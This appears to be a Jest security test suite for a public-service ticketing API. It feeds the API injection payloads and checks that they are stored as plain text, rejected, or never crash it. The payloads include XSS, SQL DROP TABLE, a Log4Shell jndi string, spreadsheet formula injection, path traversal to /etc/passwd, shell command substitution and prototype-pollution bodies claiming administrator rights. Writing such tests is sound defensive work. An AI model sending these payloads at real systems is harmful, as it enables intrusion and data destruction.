/** Input that means something to some other program: here it is text, or refused by name. Nothing of it ever breaks us. */
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import type { LimitName } from '../../contract/limits.ts';
import type { Route } from '../../contract/route.ts';
import { routes } from '../../contract/routes.ts';
import { type LocalSystem, startLocalSystem } from '../support/local-system.ts';
import { type Client, client, until } from './client.ts';
import { storyOf } from './stories.ts';
import { onBoard, requestOf } from './travel.ts';

let system: LocalSystem;
let api: Client;
beforeAll(async () => {
  system = await startLocalSystem();
  api = client(system.url);
});
afterAll(() => system.stop());

const rows = (Object.entries(routes) as [string, Route][]).map(([name, row]) => ({ name, row }));
/** On this machine a million an hour (local/main.ts). */
const wide: ReadonlySet<LimitName> = new Set(['filing', 'resident-actions', 'desk-actions', 'uploads']);
/** The hour's budgets are there again: what is tried here is not the limit. */
const freshBudgets = () => api.advance('PT1H');

const texts = [
  '=HYPERLINK("http://elsewhere.example","x")',
  '+1+cmd|"/C calc"!A0',
  '@SUM(1)',
  '<script>alert(1)</script><img src=x onerror=alert(1)>',
  '"><svg/onload=alert(1)>',
  "'; DROP TABLE tickets; --",
  '${jndi:ldap://elsewhere.example/a}',
  '{{constructor.constructor("return process")()}}',
  '#{7*7} ${7*7} <%= 7*7 %>',
  '../../../../etc/passwd',
  '%0d%0aSet-Cookie: a=b',
  '$(touch /tmp/x) `id` | ls',
  'T#01KAR5Z4VJ9M6YQ3X7T8N2B1CD#STATE',
  '{"$ne": null}',
  '__proto__',
];

describe('what people write', () => {
  test('is given back letter by letter, as data, and stands in no log, list or export', async () => {
    const story = { ...storyOf('police'), resident: 'resident-chen', filer: 'resident-chen' };
    const { id } = (await api.file('resident-chen', await requestOf(api, story))).body;
    await onBoard(api, id, 'resident-chen');
    for (const text of texts) await api.must('POST', `/tickets/${id}/comment`, { as: 'resident-chen', body: { text } });
    const said = (await api.events(id, 'resident-chen')).flatMap(({ type, words }) =>
      type === 'Commented' ? [words?.['text']] : [],
    );
    expect(said).toEqual(texts);

    // The list is of what was counted, which comes some seconds later.
    const csv = await until('the ticket in the list of cases', async () => {
      const list = await fetch(`${system.url}/reports/320613001001/tickets`, {
        headers: { authorization: `Bearer ${await api.tokenOf('supervisor-street')}` },
      });
      const text = await list.text();
      return text.includes('residence-registration') ? text : undefined;
    });
    const logs = readdirSync(system.system.logs).map((name) => readFileSync(join(system.system.logs, name), 'utf8'));
    for (const text of texts.filter((each) => each.length > 12))
      for (const place of [csv, ...logs]) expect(place).not.toContain(text);
    // No cell begins a formula.
    for (const cell of csv.split(/[\r\n,]+/)) expect(cell.replace(/^\uFEFF?"?/, '')).not.toMatch(/^[=+@\t]/);
  });

  const hidden = [
    { name: 'a zero byte', text: '张\0三' },
    { name: 'an escape', text: '\u001B[2J' },
    { name: 'half a pair', text: '\uD800' },
    { name: 'writing turned round', text: 'abc\u202Egpj.exe' },
    { name: 'an isolate', text: '\u2066abc' },
  ];
  test.each(hidden)(
    '$name is refused by the name of the field, in every body, and the system holds',
    async ({ text }) => {
      const member = {
        id: 'clerk-new',
        role: 'clerk',
        officeId: 'station-320613001001',
        zh: text,
        en: 'New',
        validFrom: '2026-12-01',
        ifVersion: 0,
      };
      expect(await api.call('POST', '/staff', { as: 'administrator', body: member })).toMatchObject({
        status: 422,
        body: { errors: [{ path: 'zh', code: 'characters' }] },
      });
      const search = { by: 'phone', value: `1990000${text}` };
      expect(await api.call('POST', '/residents/search', { as: 'clerk-lin', body: search })).toMatchObject({
        status: 422,
        body: { errors: [{ path: 'value', code: 'characters' }] },
      });
      // A name of a field is no place for it either, and is not repeated.
      const named = { itemId: 'x', communityCode: '320613001001', form: { [`a${text}`]: 1 } };
      expect(
        await api.call('POST', '/tickets', { as: 'resident-chen', key: 'hidden-in-a-name', body: named }),
      ).toMatchObject({ status: 422, body: { errors: [{ path: 'form.?', code: 'characters' }] } });
    },
  );

  test('lines and tabs, other scripts and emoji are text', async () => {
    const story = { ...storyOf('police'), resident: 'resident-liu', filer: 'resident-liu' };
    const { id } = (await api.file('resident-liu', await requestOf(api, story))).body;
    const text = '第一行\n\t第二行 العربية ئۇيغۇرچە བོད་ཡིག 👨‍👩‍👧‍👦 𠮷';
    await api.must('POST', `/tickets/${id}/comment`, { as: 'resident-liu', body: { text } });
    // The request may be delivered to its station after it.
    const commented = (await api.events(id, 'resident-liu')).find(({ type }) => type === 'Commented');
    expect(commented?.words).toEqual({ text });
  });
});

describe('names that are more than names in JavaScript', () => {
  const nasty = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty'];

  test('are fields that nobody knows, in a body, a form and a query', async () => {
    const story = { ...storyOf('police'), resident: 'resident-chen', filer: 'resident-chen' };
    const request = await requestOf(api, story);
    for (const name of nasty) {
      // Written by hand: an object of JavaScript would take it for its own prototype.
      const planted = `"${name}":{"role":"administrator","cleared":true,"polluted":"yes"}`;
      const body = JSON.stringify(request).replace(/^\{/, `{${planted},`);
      const form = JSON.stringify(request).replace('"form":{', `"form":{${planted},`);
      const send = (each: string, key: string) =>
        api.call('POST', '/tickets', { as: 'resident-chen', key, body: each });
      expect({ name, status: (await send(body, `polluted-${name.length}-a`)).status }).toEqual({ name, status: 422 });
      expect({ name, status: (await send(form, `polluted-${name.length}-b`)).status }).toEqual({ name, status: 422 });
      expect(await api.call('GET', `/catalogue/items?${name}=1`)).toMatchObject({ status: 422 });
      expect(await api.call('GET', `/catalogue/items/${name}`)).toMatchObject({ status: 404 });
    }
    // Nobody has become more than they were, and no reply has a field that it did not have.
    const me = await api.get('/me', 'resident-chen');
    expect(me.body).toMatchObject({ role: 'resident' });
    expect(JSON.stringify(me.body)).not.toContain('polluted');
  });
});

describe('far more than anybody sends', () => {
  test('of unknown fields, or of wrong ones, is answered in a few lines', async () => {
    const letters = (n: number) => `k${n.toString(26).replaceAll(/\d/g, (digit) => 'qrstuvwxyz'[Number(digit)] ?? '')}`;
    const unknown = Object.fromEntries(Array.from({ length: 15_000 }, (_, n) => [letters(n), 1]));
    const form = { itemId: 'residence-registration', communityCode: '320613001001', form: unknown };
    for (const [path, as, body] of [
      ['/residents/search', 'clerk-lin', unknown],
      ['/tickets', 'resident-chen', form],
      ['/tickets', 'resident-chen', { ...form, papers: Array(30_000).fill(1) }],
    ] as const) {
      const reply = await api.call('POST', path, { as, key: 'far-more-than', body });
      expect(reply.status).toBe(422);
      expect(JSON.stringify(reply.body).length).toBeLessThan(16_000);
    }
  });

  test('in a header is nobody and nothing', async () => {
    for (const name of ['acting-for', 'if-match', 'idempotency-key', 'accept-language']) {
      const headers = { [name]: 'a'.repeat(8_000) };
      const reply = await api.call('GET', '/boards/station-320613001001', { as: 'clerk-lin', headers });
      expect({ name, status: reply.status < 500 }).toEqual({ name, status: true });
    }
    const acting = { 'acting-for': 'a'.repeat(65) };
    expect(await api.call('GET', '/me', { as: 'clerk-lin', headers: acting })).toMatchObject({ status: 200 });
    expect(await api.call('GET', '/notices', { as: 'clerk-lin', headers: acting })).toMatchObject({ status: 403 });
  });
});

describe('operators in place of values', () => {
  const operators: readonly unknown[] = [
    { $gt: '' },
    { $ne: null },
    { S: '' },
    ['19900000001'],
    { toString: '19900000001' },
    true,
    0,
    null,
  ];
  test('find nobody: a number is asked for as text', async () => {
    const search = (value: unknown) =>
      api.call<{ errors?: { path: string }[] }>('POST', '/residents/search', {
        as: 'clerk-lin',
        body: { by: 'phone', value },
      });
    for (const value of operators) {
      const { status, body } = await search(value);
      expect({ value, status, path: body.errors?.[0]?.path }).toEqual({ value, status: 422, path: 'value' });
    }
    for (const value of ["' OR '1'='1", '1990000000*', '%1990000%', '19900000001#X', '.*.*.*', '19900000001 OR TRUE'])
      expect(await search(value)).toMatchObject({ status: 200, body: { residents: [] } });
  });
});

describe('whatever is sent to whichever operation, nothing breaks', () => {
  const values: readonly string[] = [
    ...texts,
    '',
    ' ',
    '\0',
    '\uFFFD',
    '0',
    '-1',
    '1e309',
    'NaN',
    '9'.repeat(400),
    '320613001001#',
    'station-320613001001',
    '2026-02-30',
    '0000-00-00',
    '9999-12-31',
    '2026-11',
    '01KAR5Z4VJ9M6YQ3X7T8N2B1CD',
  ];
  const callers = ['resident-chen', 'clerk-lin', 'administrator', 'auditor'];
  /** Not the same of everything: each value meets each caller somewhere. */
  const callerOf = (n: number) => callers[n % callers.length] ?? 'administrator';
  const fill = ({ path }: Route, value: string) => path.replaceAll(/\{\w+\}/g, encodeURIComponent(value));
  const sensible: Record<string, string> = {
    id: '01KAR5Z4VJ9M6YQ3X7T8N2B1CD',
    paperId: '01KAR5Z4VJ9M6YQ3X7T8N2B1CD',
    regionCode: '320613001001',
    code: '320613001001',
    officeId: 'station-320613001001',
    year: '2027',
  };
  const address = ({ path }: Route) => path.replaceAll(/\{(\w+)\}/g, (_, name: string) => sensible[name] ?? 'x');

  const whole: unknown[] = [null, true, 7, 'text', [], [[]], { a: { b: [1, { c: null }] } }, { $where: '1' }];

  test.each(rows)('$name', async ({ row }) => {
    if (row.limit !== null && !wide.has(row.limit)) await freshBudgets();
    const seen: { ask: string; status: number }[] = [];
    const ask = async (path: string, as: string, given?: unknown) => {
      const body = row.method === 'POST' ? given : undefined;
      const { status } = await fetch(system.url + path, {
        method: row.method,
        headers: {
          authorization: `Bearer ${await api.tokenOf(as)}`,
          ...(row.method === 'POST' ? { 'if-match': '"1"', 'idempotency-key': 'whatever-is-sent' } : {}),
          ...(body === undefined ? {} : { 'content-type': 'application/json' }),
        },
        ...(body === undefined ? {} : { body: JSON.stringify(body) }),
      });
      seen.push({ ask: `${as} ${path} ${JSON.stringify(body)}`.slice(0, 200), status });
    };
    const fields = Object.keys(row.body?.shape ?? {});
    let n = 0;
    for (const value of values) {
      n += 1;
      // An empty part would be another address.
      if (row.path.includes('{') && value.trim() !== '') await ask(fill(row, value), callerOf(n), {});
      for (const name of Object.keys(row.query.shape)) {
        n += 1;
        await ask(`${address(row)}?${name}=${encodeURIComponent(value)}`, callerOf(n));
      }
    }
    if (row.method === 'POST') {
      for (const body of whole) await ask(address(row), callerOf((n += 1)), body);
      for (const value of [...values.slice(0, 6), ...whole, { __proto__: null, id: 'x' }])
        await ask(address(row), callerOf((n += 1)), Object.fromEntries(fields.map((name) => [name, value])));
    }
    // 404 for what is no address, 422 for what is no value; the rest is the caller's own right.
    expect(seen.filter(({ status }) => status >= 500)).toEqual([]);
  });
});
